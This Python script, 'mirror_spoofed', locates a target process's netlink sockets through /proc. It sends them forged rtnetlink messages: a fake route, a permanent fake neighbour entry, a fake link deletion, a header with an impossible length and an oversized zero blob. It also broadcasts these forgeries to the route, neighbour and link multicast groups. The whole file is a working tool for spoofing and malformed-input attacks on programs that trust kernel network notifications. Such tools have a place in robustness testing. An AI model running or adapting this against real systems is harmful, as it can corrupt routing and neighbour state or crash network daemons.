#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""mirror_spoofed: tells every netlink socket of a process, and the groups that it listens to, what is not so: a route, a
neighbour and the end of a link, and what is no message at all.

usage: mirror_spoofed PID IFINDEX. Prints how many of its sockets took a message, and how many refused.
"""
import os
import socket
import struct
import sys

RTM_DELLINK, RTM_NEWROUTE, RTM_NEWNEIGH = 17, 24, 28
GROUPS = {RTM_DELLINK: 1, RTM_NEWROUTE: 7, RTM_NEWNEIGH: 3}
NETLINK_ROUTE = 0


def attr(kind, data):
    return struct.pack("HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)


def message(kind, body):
    return struct.pack("IHHII", 16 + len(body), kind, 0, 0, 0) + body


def lies(ifindex):
    out = struct.pack("i", ifindex)
    route = struct.pack("BBBBBBBBI", socket.AF_INET, 24, 0, 0, 254, 3, 0, 1, 0)	# main, boot, universe, unicast
    neigh = struct.pack("BxHiHBB", socket.AF_INET, 0, ifindex, 0x80, 0, 1)	# permanent
    link = struct.pack("BxHiII", 0, 1, ifindex, 0, 0xffffffff)
    yield RTM_NEWROUTE, message(RTM_NEWROUTE, route + attr(1, socket.inet_aton("203.0.113.0")) + attr(4, out))
    yield RTM_NEWNEIGH, message(RTM_NEWNEIGH, neigh + attr(1, socket.inet_aton("10.0.2.77")) + attr(2, b"\x02" + bytes(5)))
    yield RTM_DELLINK, message(RTM_DELLINK, link + attr(3, b"r2\0"))
    yield RTM_NEWROUTE, struct.pack("IHHII", 0xffffffff, RTM_NEWROUTE, 0, 0, 0)
    yield RTM_NEWROUTE, b"\0" * 100000		# larger than any buffer for it


def inodes(pid):
    links = (os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd"))
    return {link[len("socket:["):-1] for link in links if link.startswith("socket:[")}


def sockets_of(pid):
    """(protocol, port id) of each"""
    own = inodes(pid)
    with open("/proc/self/net/netlink", encoding="ascii") as file:
        rows = [line.split() for line in file][1:]
    return [(int(row[1]), int(row[2])) for row in rows if row[9] in own]


def main():
    pid, ifindex = int(sys.argv[1]), int(sys.argv[2])
    took = refused = 0
    for protocol, port in sockets_of(pid):
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as sock:
            for kind, lie in lies(ifindex):
                try:
                    sock.sendto(lie, (port, 0))
                    took += 1
                except ConnectionRefusedError:
                    refused += 1
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_ROUTE) as sock:
        for kind, lie in lies(ifindex):
            try:
                sock.sendto(lie, (0, 1 << (GROUPS[kind] - 1)))
            except OSError:
                pass		# the kernel's part, which gets a copy, refuses it; the group has it
    print(took, refused)


main()
